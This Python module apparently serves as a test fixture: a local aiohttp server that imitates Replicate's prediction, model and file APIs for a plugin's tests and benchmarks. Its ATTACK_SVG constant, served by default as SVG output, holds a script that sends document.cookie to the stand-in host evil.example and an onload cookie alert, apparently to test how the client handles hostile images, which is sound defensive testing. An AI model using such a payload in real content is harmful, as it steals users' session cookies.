"""``FakeReplicate``: a loopback aiohttp server that answers like Replicate's HTTP API.

For this plugin's tests and for the conformance suite and benchmarks. It serves models and
versions with Cog-style schemas (:mod:`imagegate_replicate.fake_schemas`), creates predictions on
the official-model endpoint and by version, answers ``Prefer: wait`` with the finished prediction
(``mode="sync"``) or, once ``max_wait_s`` has passed (default 0), with the prediction as it stands,
moves predictions ``starting -> processing -> succeeded`` as they are polled (``mode="slow"``),
keeps them ``processing`` for ever (``hang = True``) until cancelled, cancels them, validates
inputs against each model's schema (422 problem JSON with ``invalid_fields``; a file input must be
an http(s) URL or a base64 ``data:`` URI of a JPEG, PNG, GIF or WEBP image), and serves the
output files itself: real PNG/WEBP/JPEG bytes from Pillow, and an SVG (by default one carrying a
``<script>`` and an ``onload`` handler). The FLUX.2 models answer with their shipped 2026 schemas
(:data:`~imagegate_replicate.fake_schemas.FLUX2`). ``fail_like_replicate(status)`` answers with
Replicate's own 401/402/404/429 bodies; unknown models are 404 problem JSON.

With ``spec_path`` (Replicate's OpenAPI excerpt), every request body it receives and every
prediction it answers is validated against the spec; problems are collected in ``spec_errors``.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import secrets
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from aiohttp import web

from .fake_schemas import COMMUNITY, COMMUNITY_MODEL, COMMUNITY_VERSION, OFFICIAL_MODELS
from .schema import inline_refs

__all__ = ["ATTACK_SVG", "REPLICATE_ERRORS", "FakeReplicate", "Received", "decode_file_input",
           "load_spec_schemas"]

ATTACK_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1024" height="1024" viewBox="0 0 1024 1024" '
    b'onload="alert(document.cookie)">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<rect x="0" y="0" width="1024" height="1024" fill="#f4efe6"/>'
    b'<circle cx="512" cy="512" r="300" fill="#c0392b" onclick="steal()"/></svg>'
)
_TERMINAL = {"succeeded", "failed", "canceled", "aborted"}
_PIL_FORMATS = {"png": "PNG", "webp": "WEBP", "jpg": "JPEG", "jpeg": "JPEG"}
_MAX_UPLOAD_BYTES = 100 * 1024 * 1024  # Replicate's limit for an uploaded file
_FILE_MIMES = {"image/jpeg", "image/png", "image/gif", "image/webp"}
REPLICATE_ERRORS: dict[int, dict[str, Any]] = {
    401: {"title": "Unauthenticated", "status": 401,
          "detail": "You did not pass a valid authentication token"},
    402: {"title": "Insufficient credit", "status": 402,
          "detail": "You have insufficient credit to run this model. Go to "
                    "https://replicate.com/account/billing to purchase credit. Once you purchase credit, "
                    "please wait a few minutes before you try again."},
    404: {"title": "Not found", "status": 404, "detail": "The requested resource could not be found."},
    429: {"title": "Request was throttled.", "status": 429,
          "detail": "Request was throttled. Your rate limit resets in ~{s}s."},
}
"""Replicate's problem JSON for these statuses (``{s}``: the ``Retry-After`` seconds)."""
_CONTENT_TYPES = {"png": "image/png", "webp": "image/webp", "jpg": "image/jpeg", "jpeg": "image/jpeg",
                  "svg": "image/svg+xml"}


def _now() -> str:
    return datetime.now(UTC).isoformat(timespec="microseconds").replace("+00:00", "Z")


def _nullable(node: Any) -> Any:
    """OpenAPI 3.0 ``nullable: true`` as JSON Schema (``type: [t, "null"]``)."""
    if isinstance(node, list):
        return [_nullable(item) for item in node]
    if not isinstance(node, dict):
        return node
    out = {key: _nullable(value) for key, value in node.items() if key != "nullable"}
    if node.get("nullable") is True and isinstance(out.get("type"), str):
        out["type"] = [out["type"], "null"]
    return out


def decode_file_input(value: str) -> tuple[str, bytes]:
    """``(mime type, bytes)`` of a base64 ``data:`` URI file input; ValueError if it is not one."""
    import base64
    import binascii

    header, sep, payload = value.partition(",")
    if not (sep and header.startswith("data:") and header.endswith(";base64")):
        msg = "not a base64 data URI"
        raise ValueError(msg)
    try:
        return header[5:-7], base64.b64decode(payload, validate=True)
    except binascii.Error:
        msg = "the data URI is not valid base64"
        raise ValueError(msg) from None


def _image_of_its_type(mime: str, data: bytes) -> bool:
    from imagegate.imagetype import sniff_mime

    return mime in _FILE_MIMES and sniff_mime(data) == mime


def load_spec_schemas(spec_path: str | Path) -> dict[str, dict[str, Any]]:
    """The spec's component schemas, standalone (refs inlined, ``nullable`` honoured)."""
    spec = json.loads(Path(spec_path).read_text())
    components = spec["components"]["schemas"]
    return {name: _nullable(inline_refs(schema, components)) for name, schema in components.items()}


@dataclass(slots=True)
class Received:
    """One request the fake received."""

    method: str
    path: str
    headers: dict[str, str]
    body: Any


@dataclass(slots=True)
class _Model:
    owner_name: str
    version: str
    schema: dict[str, Any]
    official: bool
    output_list: bool
    default_format: str


@dataclass(slots=True)
class _Failure:
    status: int
    body: Any
    headers: dict[str, str]
    times: int
    path: str | None


@dataclass(slots=True)
class _Prediction:
    record: dict[str, Any]
    model: _Model
    steps_left: float
    done: asyncio.Event = field(default_factory=asyncio.Event)


class FakeReplicate:
    """A Replicate-compatible server on 127.0.0.1 (free port); ``start()`` then ``stop()``."""

    def __init__(self, *, mode: str = "sync", token: str | None = "r8_test",
                 spec_path: str | Path | None = None, max_wait_s: float = 0.0) -> None:
        self.mode = mode
        self.token = token
        self.max_wait_s = max_wait_s
        self.hang = False
        self.outcome: tuple[str, str | None] = ("succeeded", None)
        self.svg = ATTACK_SVG
        self.received: list[Received] = []
        self.spec_errors: list[str] = []
        self.predictions: dict[str, _Prediction] = {}
        self.files: dict[str, tuple[dict[str, Any], bytes]] = {}
        """Uploaded files (``POST /v1/files``) not yet deleted: id -> (file object, bytes)."""
        self.models: dict[str, _Model] = {}
        self._failures: list[_Failure] = []
        self._schemas = load_spec_schemas(spec_path) if spec_path else None
        self._runner: web.AppRunner | None = None
        self.port = 0
        for name, info in OFFICIAL_MODELS.items():
            self.add_model(name, info["schema"], version=info["version"], official=True,
                           output_list=info["output_list"], default_format=info["default_format"])
        self.add_model(COMMUNITY_MODEL, COMMUNITY, version=COMMUNITY_VERSION)

    # control -----------------------------------------------------------------------------------

    @property
    def root(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def base_url(self) -> str:
        return f"{self.root}/v1"

    def add_model(self, owner_name: str, schema: dict[str, Any], *, version: str, official: bool = False,
                  output_list: bool = True, default_format: str = "png") -> None:
        self.models[owner_name] = _Model(owner_name, version, schema, official, output_list, default_format)

    def fail_with(self, status: int, body: Any = None, headers: dict[str, str] | None = None, *,
                  times: int = 1, path: str | None = None) -> None:
        """Answer the next ``times`` API calls (whose path contains ``path``, if given) with this."""
        self._failures.append(_Failure(status, body, dict(headers or {}), times, path))

    def finish_as(self, status: str, error: str | None = None) -> None:
        """End the next predictions with this status (``failed`` with ``error``, ``canceled``, ...)."""
        self.outcome = (status, error)

    def fail_like_replicate(self, status: int, *, retry_after: int = 7, times: int = 1,
                            path: str | None = None) -> None:
        """Answer the next calls as Replicate does for 401, 402, 404 or 429 (with ``Retry-After``)."""
        body = dict(REPLICATE_ERRORS[status])
        body["detail"] = body["detail"].replace("{s}", str(retry_after))
        headers = {"Retry-After": str(retry_after)} if status == 429 else {}
        self.fail_with(status, body, headers, times=times, path=path)

    def calls(self, method: str, path_part: str) -> list[Received]:
        return [r for r in self.received if r.method == method and path_part in r.path]

    @property
    def creates(self) -> list[Received]:
        return [r for r in self.received if r.method == "POST" and r.path.endswith("/predictions")]

    @property
    def cancels(self) -> list[Received]:
        return self.calls("POST", "/cancel")

    async def start(self) -> FakeReplicate:
        app = web.Application(client_max_size=_MAX_UPLOAD_BYTES)
        app.router.add_get("/v1/models/{owner}/{name}", self._get_model)
        app.router.add_get("/v1/models/{owner}/{name}/versions/{version}", self._get_version)
        app.router.add_post("/v1/models/{owner}/{name}/predictions", self._create_official)
        app.router.add_post("/v1/predictions", self._create_by_version)
        app.router.add_post("/v1/files", self._upload)
        app.router.add_get("/v1/files/{file_id}", self._get_file)
        app.router.add_delete("/v1/files/{file_id}", self._delete_file)
        app.router.add_get("/v1/predictions/{pid}", self._get_prediction)
        app.router.add_post("/v1/predictions/{pid}/cancel", self._cancel)
        app.router.add_get("/files/{pid}/{index}.{ext}", self._file)
        self._runner = web.AppRunner(app, shutdown_timeout=1.0)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
        return self

    async def stop(self) -> None:
        for prediction in self.predictions.values():
            prediction.done.set()
        if self._runner is not None:
            await self._runner.cleanup()
            self._runner = None

    async def __aenter__(self) -> FakeReplicate:
        return await self.start()

    async def __aexit__(self, *exc: object) -> None:
        await self.stop()

    # plumbing ----------------------------------------------------------------------------------

    def _not_found(self) -> web.Response:
        body = REPLICATE_ERRORS[404]
        return self._problem(404, body["title"], body["detail"])

    @staticmethod
    def _problem(status: int, title: str, detail: str, **extra: Any) -> web.Response:
        return web.json_response({"title": title, "detail": detail, "status": status, **extra}, status=status,
                                 content_type="application/problem+json")

    async def _enter(self, request: web.Request) -> tuple[Any, web.Response | None]:
        """Record the request; answer an injected failure or a 401 before anything else."""
        raw = await request.read()
        try:
            body = json.loads(raw) if raw else None
        except ValueError:
            body = raw.decode(errors="replace")
        self.received.append(Received(request.method, request.path, dict(request.headers), body))
        return body, self._failed(request) or self._unauthenticated(request)

    def _failed(self, request: web.Request) -> web.Response | None:
        for failure in self._failures:
            if failure.times > 0 and (failure.path is None or failure.path in request.path):
                failure.times -= 1
                payload = failure.body if failure.body is not None else {"detail": "fake failure"}
                return web.json_response(payload, status=failure.status, headers=failure.headers,
                                         content_type="application/problem+json")
        return None

    def _unauthenticated(self, request: web.Request) -> web.Response | None:
        if self.token is not None and request.headers.get("Authorization") != f"Bearer {self.token}":
            problem = REPLICATE_ERRORS[401]
            return self._problem(401, problem["title"], problem["detail"])
        return None

    def _check(self, schema_name: str, value: Any, where: str) -> None:
        if self._schemas is None:
            return
        from jsonschema import Draft202012Validator, FormatChecker

        validator = Draft202012Validator(self._schemas[schema_name], format_checker=FormatChecker())
        self.spec_errors += [f"{where}: {error.message}" for error in validator.iter_errors(value)]

    def _answer(self, prediction: _Prediction, status: int = 200) -> web.Response:
        self._check("schemas_prediction_response", prediction.record, f"answer {prediction.record['id']}")
        return web.json_response(prediction.record, status=status)

    def _version_json(self, model: _Model) -> dict[str, Any]:
        return {"id": model.version, "created_at": "2025-01-01T00:00:00.000000Z", "cog_version": "0.13.6",
                "openapi_schema": model.schema}

    # models ------------------------------------------------------------------------------------

    async def _get_model(self, request: web.Request) -> web.Response:
        _, failed = await self._enter(request)
        if failed is not None:
            return failed
        model = self.models.get(f"{request.match_info['owner']}/{request.match_info['name']}")
        if model is None:
            return self._not_found()
        owner, _, name = model.owner_name.partition("/")
        return web.json_response({
            "url": f"https://replicate.com/{model.owner_name}", "owner": owner, "name": name,
            "description": f"{name} (fake)", "visibility": "public", "github_url": None, "paper_url": None,
            "license_url": None, "run_count": 1, "cover_image_url": None, "default_example": None,
            "latest_version": self._version_json(model)})

    async def _get_version(self, request: web.Request) -> web.Response:
        _, failed = await self._enter(request)
        if failed is not None:
            return failed
        model = self.models.get(f"{request.match_info['owner']}/{request.match_info['name']}")
        if model is None or model.version != request.match_info["version"]:
            return self._not_found()
        return web.json_response(self._version_json(model))

    # predictions -------------------------------------------------------------------------------

    async def _create_official(self, request: web.Request) -> web.Response:
        body, failed = await self._enter(request)
        if failed is not None:
            return failed
        self._check("schemas_prediction_request", body, "request body")
        model = self.models.get(f"{request.match_info['owner']}/{request.match_info['name']}")
        if model is None or not model.official:
            return self._not_found()
        return await self._create(request, model, body)

    async def _create_by_version(self, request: web.Request) -> web.Response:
        body, failed = await self._enter(request)
        if failed is not None:
            return failed
        self._check("schemas_version_prediction_request", body, "request body")
        version = str((body or {}).get("version", "")).rpartition(":")[2]
        model = next((m for m in self.models.values() if m.version == version), None)
        if model is None:
            return self._problem(422, "Invalid version", "Invalid version or not permitted",
                                 invalid_fields=[{"type": "invalid", "field": "version",
                                                  "description": "Invalid version or not permitted"}])
        return await self._create(request, model, body)

    def _file_uri(self, value: object) -> bool:
        """A file input Replicate can fetch: a data URI of a real image, a file uploaded here and
        not deleted, or another http(s) URL."""
        from urllib.parse import urlsplit

        if not isinstance(value, str):
            return True  # the type keyword reports it
        if value.startswith("data:"):
            try:
                return _image_of_its_type(*decode_file_input(value))
            except ValueError:
                return False
        if value.startswith(f"{self.base_url}/files/"):
            return value.rpartition("/")[2] in self.files
        parts = urlsplit(value)
        return parts.scheme in ("http", "https") and bool(parts.netloc)

    def _input_errors(self, model: _Model, model_input: Any) -> list[tuple[str, str]]:
        from jsonschema import Draft202012Validator, FormatChecker

        components = model.schema["components"]["schemas"]
        formats = FormatChecker([])
        formats.checks("uri")(self._file_uri)
        validator = Draft202012Validator(inline_refs(components["Input"], components), format_checker=formats)
        return [(".".join(str(p) for p in error.path) or "input", error.message)
                for error in validator.iter_errors(model_input if isinstance(model_input, dict) else None)]

    async def _create(self, request: web.Request, model: _Model, body: Any) -> web.Response:
        prefer = request.headers.get("Prefer", "")
        if prefer and not (prefer == "wait" or (prefer.startswith("wait=") and prefer[5:].isdigit()
                                                and 1 <= int(prefer[5:]) <= 60)):
            self.spec_errors.append(f"Prefer header {prefer!r} does not match the spec")
        model_input = (body or {}).get("input")
        errors = self._input_errors(model, model_input)
        if errors:
            detail = "".join(f"- input.{name}: {message}\n" for name, message in errors)
            return self._problem(422, "Input validation failed", detail, invalid_fields=[
                {"type": "invalid", "field": f"input.{name}", "description": message}
                for name, message in errors])
        pid = "".join(secrets.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(26))
        record = {
            "id": pid, "model": model.owner_name, "version": model.version, "input": model_input,
            "logs": "", "output": None, "data_removed": False, "error": None, "status": "starting",
            "created_at": _now(), "source": "api",
            "urls": {"get": f"{self.base_url}/predictions/{pid}",
                     "cancel": f"{self.base_url}/predictions/{pid}/cancel",
                     "web": f"https://replicate.com/p/{pid}", "stream": f"{self.root}/stream/{pid}"},
        }
        steps = float("inf") if self.hang else (0 if self.mode == "sync" else 2)
        prediction = _Prediction(record, model, steps)
        self.predictions[pid] = prediction
        if prefer:
            wait_s = 60.0 if prefer == "wait" else float(prefer[5:])
            if steps == 0:
                self._finish(prediction)
            else:
                try:
                    await asyncio.wait_for(prediction.done.wait(), min(wait_s, self.max_wait_s))
                except TimeoutError:
                    pass
        return self._answer(prediction, status=201)

    def _finish(self, prediction: _Prediction) -> None:
        record = prediction.record
        status, error = self.outcome
        record.update(status=status, completed_at=_now(), started_at=record.get("started_at") or _now())
        if status == "succeeded":
            model_input = record["input"] or {}
            fmt = str(model_input.get("output_format") or prediction.model.default_format)
            count = int(model_input.get("num_outputs") or 1) if prediction.model.output_list else 1
            urls = [f"{self.root}/files/{record['id']}/{i}.{fmt}" for i in range(count)]
            record["output"] = urls if prediction.model.output_list else urls[0]
            record["metrics"] = {"predict_time": 0.01, "total_time": 0.02}
        else:
            record["error"] = error
        prediction.done.set()

    async def _get_prediction(self, request: web.Request) -> web.Response:
        _, failed = await self._enter(request)
        if failed is not None:
            return failed
        prediction = self.predictions.get(request.match_info["pid"])
        if prediction is None:
            return self._not_found()
        record = prediction.record
        if record["status"] not in _TERMINAL and not self.hang:
            prediction.steps_left -= 1
            if prediction.steps_left <= 0:
                self._finish(prediction)
            else:
                record.update(status="processing", started_at=record.get("started_at") or _now())
        return self._answer(prediction)

    async def _cancel(self, request: web.Request) -> web.Response:
        _, failed = await self._enter(request)
        if failed is not None:
            return failed
        prediction = self.predictions.get(request.match_info["pid"])
        if prediction is None:
            return self._not_found()
        if prediction.record["status"] not in _TERMINAL:
            prediction.record.update(status="canceled", completed_at=_now())
            prediction.done.set()
        return self._answer(prediction)

    # input files (the Files API) -----------------------------------------------------------------

    async def _upload(self, request: web.Request) -> web.Response:
        failed = self._failed(request) or self._unauthenticated(request)
        if failed is not None:
            self.received.append(Received(request.method, request.path, dict(request.headers), None))
            return failed
        form = await request.post()
        content = form.get("content")
        self.received.append(Received(request.method, request.path, dict(request.headers),
                                      {name: str(value) for name, value in form.items() if name != "content"}))
        if not isinstance(content, web.FileField):
            return self._problem(400, "Bad request", "content: a file is required")
        data = content.file.read()
        if not _image_of_its_type(content.content_type, data):
            self.spec_errors.append(f"upload {content.filename!r}: {content.content_type} does not match its bytes")
        file_id = "".join(secrets.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(26))
        file = {"id": file_id, "name": content.filename, "content_type": content.content_type, "size": len(data),
                "etag": hashlib.md5(data, usedforsecurity=False).hexdigest(),
                "checksums": {"sha256": hashlib.sha256(data).hexdigest()}, "metadata": {},
                "created_at": _now(), "expires_at": None, "urls": {"get": f"{self.base_url}/files/{file_id}"}}
        self.files[file_id] = (file, data)
        return web.json_response(file, status=201)

    async def _get_file(self, request: web.Request) -> web.Response:
        _, failed = await self._enter(request)
        if failed is not None:
            return failed
        found = self.files.get(request.match_info["file_id"])
        return web.json_response(found[0]) if found else self._not_found()

    async def _delete_file(self, request: web.Request) -> web.Response:
        _, failed = await self._enter(request)
        if failed is not None:
            return failed
        if self.files.pop(request.match_info["file_id"], None) is None:
            return self._not_found()
        return web.Response(status=204)

    # output files --------------------------------------------------------------------------------

    async def _file(self, request: web.Request) -> web.Response:
        self.received.append(Received(request.method, request.path, dict(request.headers), None))
        ext = request.match_info["ext"]
        if request.match_info["pid"] not in self.predictions or ext not in _CONTENT_TYPES:
            return web.Response(status=404, text="not found")
        if ext == "svg":
            data = self.svg
        else:
            data = await asyncio.to_thread(_raster, _PIL_FORMATS[ext], int(request.match_info["index"]))
        return web.Response(body=data, content_type=_CONTENT_TYPES[ext])


def _raster(pil_format: str, index: int) -> bytes:
    from PIL import Image

    image = Image.new("RGB", (64, 48), (40 + 50 * index % 200, 90, 160))
    buffer = io.BytesIO()
    image.save(buffer, format=pil_format)
    return buffer.getvalue()
